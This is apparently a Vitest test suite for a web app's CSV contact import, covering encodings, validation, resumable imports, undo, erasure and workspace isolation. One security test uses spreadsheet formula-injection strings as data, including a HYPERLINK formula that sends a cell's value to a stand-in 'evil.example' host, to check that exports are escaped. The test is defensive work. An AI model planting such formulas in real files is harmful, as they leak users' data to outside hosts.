import {
  applyContactImportChanged,
  cancelContactImport,
  checkContactImport,
  type ContactImport,
  contactImportChanged,
  createContactField,
  createContactNote,
  createTag,
  eraseContact,
  getContact,
  type ImportDraft,
  importErrorsPath,
  importLimits,
  type Input,
  listContactImports,
  listContacts,
  listContactTimeline,
  mergeContact,
  startContactImport,
  undoContactImport,
  undoContactMerge,
  updateContact,
  uploadContactImport,
} from '@ozvi/contract'
import { afterAll, expect, test, vi } from 'vitest'
import { type Browser, testServer } from '../../../../test/server.ts'
import { deleteOldImports, runImport } from './run.ts'

const server = await testServer({}, { isAnswering: false })
afterAll(() => server[Symbol.asyncDispose]())

async function send(who: Browser, integration_id: string, content: string | Uint8Array<ArrayBuffer>) {
  const form = new FormData()
  form.set('file', new File([content], 'people.csv'))
  const body = new Response(form)
  const reply = await who.request(
    'POST',
    uploadContactImport.path.replace(':integration_id', integration_id),
    Buffer.from(await body.arrayBuffer()),
    { 'content-type': body.headers.get('content-type') ?? '' },
  )
  return {
    status: reply.statusCode,
    ...(reply.json() as { data: ImportDraft; errors?: Record<string, string[]> }),
  }
}
async function workspace() {
  const created = await server.seed.integration()
  const { browser, integration_id } = created
  const at = (import_id: string) => ({ integration_id, import_id })
  const look = async (import_id: string) =>
    (await browser.call(listContactImports, { integration_id })).find(({ id }) => id === import_id)
  const until = (import_id: string, status: ContactImport['status']) =>
    server.eventually(async () => {
      const row = await look(import_id)
      return row?.status === status ? row : undefined
    })
  type Plan = Pick<Input<typeof startContactImport>, 'columns' | 'match_by' | 'on_known'>
  return {
    ...created,
    at,
    until,
    upload: (content: string | Uint8Array<ArrayBuffer>) => send(browser, integration_id, content),
    /** Uploads, starts with the suggested columns, and waits. */
    async run(content: string | Uint8Array<ArrayBuffer>, plan: Partial<Plan> = {}) {
      const { data } = await send(browser, integration_id, content)
      await browser.call(startContactImport, {
        ...at(data.import.id),
        columns: data.columns.map(({ guess }) => guess),
        match_by: 'email',
        on_known: 'update',
        ...plan,
      })
      return until(data.import.id, 'done')
    },
    people: async () => (await browser.call(listContacts, { integration_id, sort: 'name' })).items,
    errors: async (import_id: string) =>
      (await browser.request('GET', importErrorsPath(integration_id, import_id))).body,
  }
}

test('events explain state: contacts come from a file, known ones are updated, and refused rows are listed with their reason', async () => {
  const { browser, integration_id, run, people, errors, user, until } = await workspace()
  const events = server.watch(contactImportChanged.channel({ integration_id }), contactImportChanged.name)
  await browser.call(createTag, { integration_id, name: 'VIP' })
  const plan = await browser.call(createContactField, { integration_id, name: 'Seats', type: 'number' })
  const { contact_id } = await server.seed.visitor(
    (await server.me(browser)).integrations[0]?.public_key ?? '',
  )
  await browser.call(updateContact, { integration_id, contact_id, email: 'eva@example.com', city: 'Nitra' })
  const done = await run(
    [
      'Meno;E-mail;Telefón;Krajina;Štítky;Zodpovedná osoba;Seats',
      `Eva Malá;EVA@example.com;'+421 900 123 456;Slovensko;vip;${user.email};12,5`,
      '"Ján; ""Jano"" Novák";jan@example.com;;cz;;;',
      'Zlá;not an address;;;;;many',
      'Ján;jan@example.com;;;;;',
      ';;;;;;',
    ].join('\r\n'),
  )
  expect(done).toMatchObject({ rows_total: 5, rows_done: 5, created: 1, updated: 1, skipped: 0, failed: 3 })
  expect(await people()).toMatchObject([
    {
      id: contact_id,
      name: 'Eva Malá',
      city: 'Nitra',
      country: 'SK',
      phone: '+421 900 123 456',
      owner_id: user.id,
      fields: { [plan.id]: 12.5 },
    },
    { name: 'Ján; "Jano" Novák', email: 'jan@example.com', country: 'CZ', kind: 'lead' },
  ])
  expect((await people())[0]?.tag_ids).toHaveLength(1)
  const { items } = await browser.call(listContactTimeline, { integration_id, contact_id, kind: 'change' })
  expect(items[0]).toMatchObject({
    actor: { id: user.id },
    changes: expect.arrayContaining([{ field: 'name', label: null, before: null, after: 'Eva Malá' }]),
  })
  const lines = (await errors(done.id)).split('\r\n')
  expect(lines[0]).toBe(
    '\ufeff"row","error","Meno","E-mail","Telefón","Krajina","Štítky","Zodpovedná osoba","Seats"',
  )
  expect(lines.slice(1, 4).map((line) => line.split(',')[0])).toEqual(['"4"', '"5"', '"6"'])
  expect(lines[2]).toContain('An earlier row in this file is the same contact.')
  await until(done.id, 'done')
  // The event has the type of the contract.
  const notified = events.reduce<ContactImport[]>(
    (list, { data }) => applyContactImportChanged(list, data as ContactImport),
    [],
  )
  expect(notified).toEqual(await browser.call(listContactImports, { integration_id }))
})

test('S2.04 SEC-45 what the export of contacts escapes is imported as it was', async () => {
  const from = await workspace()
  const values = [
    '=1+1',
    '＝1+1',
    '-1;=HYPERLINK("https://evil.example/"&B1)',
    "'=quoted",
    'Ann|@sum; +2',
    '"quoted", and more',
    "O'Brien & sons; est. 1900",
  ]
  const field = { name: '＋Plan', type: 'text' } as const
  const plan = await from.browser.call(createContactField, { integration_id: from.integration_id, ...field })
  await from.run(
    [
      'email,company,＋Plan',
      ...values.map((value, nth) => {
        const cell = `"${value.replaceAll('"', '""').replace("'=", "''=")}"`
        return `person-${nth}@example.com,${cell},${cell}`
      }),
    ].join('\n'),
  )
  const sourceRows = await from.people()
  expect(new Set(sourceRows.map(({ company }) => company))).toEqual(new Set(values))
  expect(new Set(sourceRows.map(({ fields }) => fields[plan.id]))).toEqual(new Set(values))

  const { body } = await from.browser.request('GET', `/api/integration/${from.integration_id}/contact-export`)
  const to = await workspace()
  const copied = await to.browser.call(createContactField, { integration_id: to.integration_id, ...field })
  const { data } = await to.upload(body)
  const columns = data.columns.map(({ name, guess }) =>
    ['email', 'company', '＋Plan'].includes(name) ? guess : null,
  )
  expect(columns).toContain(copied.id)
  expect((await to.run(body, { columns })).failed).toBe(0)
  const valuesByEmail = (rows: Awaited<ReturnType<typeof to.people>>, id: string) =>
    new Map(rows.map(({ email, company, fields }) => [email, [company, fields[id]]]))
  expect(valuesByEmail(await to.people(), copied.id)).toEqual(valuesByEmail(sourceRows, plan.id))
})

const text = 'Meno,Email\nŽofia Ďurčanská,zofia@example.com\n'
const utf16 = (bytes: Buffer) => Uint8Array.from([0xff, 0xfe, ...bytes])
/** Non-ASCII letters of the text in that code page. */
const page1250: Record<string, number> = { Ž: 0x8e, Ď: 0xcf, č: 0xe8, á: 0xe1 }
test.each([
  ['UTF-8', text, 'utf-8'],
  ['UTF-8 with its mark', `\ufeff${text}`, 'utf-8'],
  ['UTF-16', utf16(Buffer.from(text, 'utf16le')), 'utf-16le'],
  ['UTF-16 without a mark', Uint8Array.from(Buffer.from(text.replaceAll(',', '\t'), 'utf16le')), 'utf-16le'],
  [
    'windows-1250',
    Uint8Array.from(Array.from(text.replaceAll(',', ';'), (sign) => page1250[sign] ?? sign.charCodeAt(0))),
    'windows-1250',
  ],
])('a file in %s is read, whatever separates its columns', async (_, content, encoding) => {
  const { upload } = await workspace()
  const { data } = await upload(content)
  expect(data).toMatchObject({
    encoding,
    import: { status: 'waiting', rows_total: 1 },
    columns: [
      { name: 'Meno', samples: ['Žofia Ďurčanská'], guess: 'name' },
      { name: 'Email', samples: ['zofia@example.com'], guess: 'email' },
    ],
  })
})

test('422: a file without rows, with too many, or that is none is refused on its field; so is a plan that leads nowhere', async () => {
  const { upload, browser, at } = await workspace()
  const many = `email\n${'a@b.example\n'.repeat(importLimits.rows_max + 1)}`
  const workbook = Uint8Array.from(Buffer.from('504b03041400060008000000210062ee9d68', 'hex'))
  for (const content of ['email\n', many, 'a,"b\n'.repeat(30_000), workbook]) {
    const reply = await upload(content)
    expect([reply.status, Object.keys(reply.errors ?? {})], String(content.slice(0, 8))).toEqual([
      422,
      ['file'],
    ])
  }
  const { data } = await upload('email,mail\na@b.example,c\n')
  const start = (columns: (string | null)[]) =>
    browser.call(startContactImport, { ...at(data.import.id), columns, match_by: 'email', on_known: 'skip' })
  for (const columns of [
    [null, null],
    ['email', 'email'],
    ['email', crypto.randomUUID()],
    ['name', null],
  ])
    await expect(start(columns)).rejects.toMatchObject({
      code: 'invalid_input',
      errors: { columns: [expect.any(String)] },
    })
})

/** Checked before each batch, so exactly the first one is imported. */
function stopAfterOneBatch(): AbortSignal {
  const stop = new AbortController()
  vi.spyOn(stop.signal, 'throwIfAborted').mockImplementationOnce(() => stop.abort())
  return stop.signal
}
test('an import that was cut off goes on without a row twice; one that is cancelled stops, and both are undone as a whole', async () => {
  const { run, people, browser, at, upload, until, integration_id } = await workspace()
  await run('name,email\nAda,ada@example.com\nBea,bea@example.com')
  const rows = Array.from({ length: 600 }, (_, n) => `New ${n},new${n}@example.com,Town`)
  const { data } = await upload(`name,email,city\nAda L.,ada@example.com,Bath\n${rows.join('\n')}`)
  const key = at(data.import.id)
  const plan = JSON.stringify({ columns: ['name', 'email', 'city'], match_by: 'email', on_known: 'update' })
  await server.ctx.transaction((tx) =>
    tx
      .updateTable('contact_import')
      .set({ status: 'running', plan })
      .where('id', '=', key.import_id)
      .execute(),
  )
  await expect(runImport(server.ctx, key, stopAfterOneBatch())).rejects.toThrow('aborted')
  await runImport(server.ctx, key, new AbortController().signal)
  const done = await until(key.import_id, 'done')
  expect(done).toMatchObject({ rows_done: 601, created: 600, updated: 1, failed: 0 })
  expect(await browser.call(cancelContactImport, key)).toMatchObject({ status: 'done' })

  const [ada] = await people()
  const noted = (await browser.call(listContacts, { integration_id, search: 'new7@' })).items[0]?.id ?? ''
  await browser.call(createContactNote, {
    integration_id,
    contact_id: noted,
    id: crypto.randomUUID(),
    body: 'Called',
  })
  await browser.call(updateContact, { integration_id, contact_id: ada?.id ?? '', city: 'Oxford' })
  await browser.call(undoContactImport, key)
  expect(await until(key.import_id, 'undone')).toMatchObject({ kept: 1 })
  // The city was changed since; the name wasn't.
  expect(await people()).toMatchObject([{ name: 'Ada', city: 'Oxford' }, { name: 'Bea' }, { name: 'New 7' }])

  const cancelled = (await upload('email\nx@example.com')).data.import
  expect(await browser.call(cancelContactImport, at(cancelled.id))).toMatchObject({ status: 'cancelled' })
})

test('SEC-50 an erased person stands in no file, row or error of an import; after 30 days nobody does', async () => {
  const { run, people, browser, integration_id, errors } = await workspace()
  const done = await run('name,email\nCan Ary,canary@example.com\nTwice,canary@example.com\nOther,no address')
  const [person] = await people()
  expect(await errors(done.id)).toContain('canary@example.com')
  await browser.call(eraseContact, { integration_id, contact_id: person?.id ?? '' })
  await server.eventually(() =>
    browser.call(getContact, { integration_id, contact_id: person?.id ?? '' }).then(
      () => undefined,
      () => true,
    ),
  )
  expect(await errors(done.id)).not.toContain('canary@example.com')
  expect(await errors(done.id)).toContain('no address')
  const { file_key } = await server.ctx.db
    .selectFrom('contact_import')
    .where('id', '=', done.id)
    .select('file_key')
    .executeTakeFirstOrThrow()
  expect(file_key).toBeNull()
  await server.later(31 * 24 * 60 * 60 * 1000, () => deleteOldImports(server.ctx, 30))
  expect(await browser.call(listContactImports, { integration_id })).toEqual([])
})

test('events explain state: before anything is written a check counts what an import would do, and lists the rows it would refuse', async () => {
  const { upload, run, people, browser, at, until, errors, integration_id } = await workspace()
  await run('name,email,city\nAda,ada@example.com,Bath\nBea,bea@example.com,Nitra')
  const before = await people()
  const rows = Array.from({ length: 600 }, (_, n) => `New ${n},new${n}@example.com,Town`)
  const { data } = await upload(
    [
      'name,email,city',
      'Ada,ada@example.com,Oxford',
      'Bea,bea@example.com,Nitra',
      'Bad,no address,Nitra',
      ...rows,
      // the same person as in an earlier batch
      'Again,new3@example.com,Town',
      'Ada,ada@example.com,York',
    ].join('\n'),
  )
  const key = at(data.import.id)
  const events = server.watch(contactImportChanged.channel({ integration_id }), contactImportChanged.name)
  const plan = { columns: ['name', 'email', 'city'], match_by: 'email', on_known: 'update' } as const
  const query = { ...key, ...plan, columns: [...plan.columns] }
  await expect(browser.call(checkContactImport, { ...query, columns: ['city'] })).rejects.toMatchObject({
    code: 'invalid_input',
  })
  expect(await browser.call(checkContactImport, query)).toMatchObject({ status: 'checking', rows_done: 0 })
  const counts = { rows_total: 605, rows_done: 605, created: 600, updated: 1, skipped: 1, failed: 3 }
  expect(await until(key.import_id, 'checked')).toMatchObject(counts)
  // The event follows the commit.
  await expect.poll(() => events.at(-1)?.data).toMatchObject({ status: 'checked', ...counts })
  expect(
    (await errors(key.import_id))
      .split('\r\n')
      .slice(1, 4)
      .map((line) => line.split(',')[0]),
  ).toEqual(['"4"', '"605"', '"606"'])
  expect(await people()).toEqual(before)
  // A different plan is counted separately.
  await browser.call(checkContactImport, { ...query, on_known: 'skip' })
  await server.eventually(
    async () =>
      events.some(
        ({ data: notified }) =>
          (notified as ContactImport).updated === 0 && (notified as ContactImport).status === 'checked',
      ) || undefined,
  )
  expect(await until(key.import_id, 'checked')).toMatchObject({ created: 600, updated: 0, skipped: 2 })
  await browser.call(checkContactImport, query)
  await until(key.import_id, 'checked')
  await browser.call(startContactImport, query)
  expect(await until(key.import_id, 'done')).toMatchObject(counts)

  const other = (await upload('email\nz@example.com')).data.import
  await browser.call(checkContactImport, {
    ...at(other.id),
    columns: ['email'],
    match_by: 'email',
    on_known: 'skip',
  })
  await until(other.id, 'checked')
  const nothing = { rows_done: 0, created: 0, failed: 0 }
  expect(await browser.call(cancelContactImport, at(other.id))).toMatchObject({
    status: 'cancelled',
    ...nothing,
  })
  expect(await browser.call(listContacts, { integration_id, search: 'z@example' })).toMatchObject({
    items: [],
  })
})

test('two rows that name one person count alike in a check and in the import, however far apart and wherever it was cut off', async () => {
  const rows = Array.from({ length: 300 }, (_, n) => `New ${n},new${n}@example.com,`)
  const content = [
    'name,email,id',
    'Ada,ada@example.com,A-1', // unchanged
    'Bea L.,bea@example.com,B-1',
    'Bad,no address,X-1',
    ...rows,
    // the same two as in an earlier batch, and an id whose row was rejected there
    'Ada,ada@example.com,A-1',
    'Bea L.,bea@example.com,B-1',
    'Good,x@example.com,X-1',
  ].join('\n')
  const columns = ['name', 'email', 'external_id']
  async function uploaded() {
    const created = await workspace()
    await created.run('name,email,id\nAda,ada@example.com,A-1\nBea,bea@example.com,B-1')
    return { ...created, key: created.at((await created.upload(content)).data.import.id) }
  }
  for (const plan of [
    { match_by: 'email', on_known: 'skip' },
    { match_by: 'external_id', on_known: 'update' },
  ] as const) {
    const { key, browser, until } = await uploaded()
    const updated = plan.on_known === 'update' ? 1 : 0
    const counts = { rows_done: 306, created: 301, updated, skipped: 2 - updated, failed: 3 }
    await browser.call(checkContactImport, { ...key, ...plan, columns })
    expect(await until(key.import_id, 'checked'), plan.match_by).toMatchObject(counts)
    await browser.call(startContactImport, { ...key, ...plan, columns })
    expect(await until(key.import_id, 'done'), plan.match_by).toMatchObject(counts)

    const cut = await uploaded()
    await server.ctx.transaction((tx) =>
      tx
        .updateTable('contact_import')
        .set({ status: 'running', plan: JSON.stringify({ ...plan, columns }) })
        .where('id', '=', cut.key.import_id)
        .execute(),
    )
    await expect(runImport(server.ctx, cut.key, stopAfterOneBatch())).rejects.toThrow('aborted')
    await runImport(server.ctx, cut.key, new AbortController().signal)
    expect(await cut.until(cut.key.import_id, 'done'), plan.match_by).toMatchObject(counts)
  }
})

test('an external id decides, and two of them are never made one', async () => {
  const { run, people } = await workspace()
  await run('id,email\nA-1,a@example.com')
  const clash = await run('id,email\nA-2,a@example.com')
  expect(clash).toMatchObject({ failed: 1, updated: 0 })
  await run('id,email,name\nA-1,new@example.com,Ann', { match_by: 'external_id' })
  expect(await people()).toMatchObject([{ external_id: 'A-1', email: 'new@example.com', name: 'Ann' }])
  expect(await run('id,name\nA-1,Other', { match_by: 'external_id', on_known: 'skip' })).toMatchObject({
    skipped: 1,
  })
})

test('S2.04 an imported contact was never seen, has no language, names the file, and is listed after visitors', async () => {
  const { browser, integration_id, integration, run } = await workspace()
  await run('Name,E-mail\nAnna,anna@example.com\nBela,bela@example.com\nCyril,cyril@example.com')
  const visitor = await server.seed.visitor(integration.public_key)
  type Asked = { sort: 'last_seen' | 'first_seen'; cursor?: string; rules?: string; limit?: number }
  const list = (query: Asked) => browser.call(listContacts, { integration_id, ...query })
  for (const sort of ['last_seen', 'first_seen'] as const) {
    const ids: string[] = []
    let cursor: string | null | undefined
    do {
      const page = await list({ sort, limit: 2, ...(cursor ? { cursor } : {}) })
      ids.push(...page.items.map(({ id }) => id))
      cursor = page.next
    } while (cursor)
    expect(ids[0], sort).toBe(visitor.contact_id)
    expect(new Set(ids).size, sort).toBe(4)
  }
  const { items } = await list({ sort: 'last_seen', rules: 'import_file.contains.people' })
  expect(new Set(items.map(({ name }) => name))).toEqual(new Set(['Anna', 'Bela', 'Cyril']))
  for (const row of items)
    expect(row).toMatchObject({
      first_seen_at: null,
      last_seen_at: null,
      locale: null,
      import_file: 'people.csv',
      referrer: null,
    })
  expect((await list({ sort: 'last_seen', rules: 'last_seen.within.30' })).items).toHaveLength(1)
})

test('an imported contact who comes to the site is seen from then on, in the language of their browser', async () => {
  const { browser, integration_id, integration, run, people } = await workspace()
  await run('Name,E-mail\nAnna,anna@example.com')
  const anna = (await people()).find(({ name }) => name === 'Anna')
  const visitor = await server.seed.visitor(integration.public_key)
  const source = await browser.call(getContact, { integration_id, contact_id: visitor.contact_id })
  const merge = { id: crypto.randomUUID(), contact_id: source.id, into_id: anna?.id ?? '' }
  await browser.call(mergeContact, { integration_id, ...merge })
  const read = () => browser.call(getContact, { integration_id, contact_id: merge.into_id })
  const { first_seen_at, last_seen_at, locale } = source
  expect(await read()).toMatchObject({ first_seen_at, last_seen_at, locale, import_file: 'people.csv' })
  await browser.call(undoContactMerge, { integration_id, merge_id: merge.id })
  expect(await read()).toMatchObject({ first_seen_at: null, last_seen_at: null, locale: null })
})

test('SEC-10 404: another workspace’s import is neither seen, checked, started, cancelled nor undone', async () => {
  const a = await workspace()
  const b = await workspace()
  const { data } = await a.upload('email\ncanary@example.com')
  const there = b.at(data.import.id)
  const refused = { code: 'not_found' }
  for (const route of [cancelContactImport, undoContactImport])
    await expect(b.browser.call(route, there)).rejects.toMatchObject(refused)
  for (const route of [startContactImport, checkContactImport])
    await expect(
      b.browser.call(route, { ...there, columns: ['email'], match_by: 'email', on_known: 'skip' }),
    ).rejects.toMatchObject(refused)
  const reply = await b.browser.request('GET', importErrorsPath(b.integration_id, data.import.id))
  expect(reply.statusCode).toBe(404)
  expect(await b.browser.call(listContactImports, { integration_id: b.integration_id })).toEqual([])
})
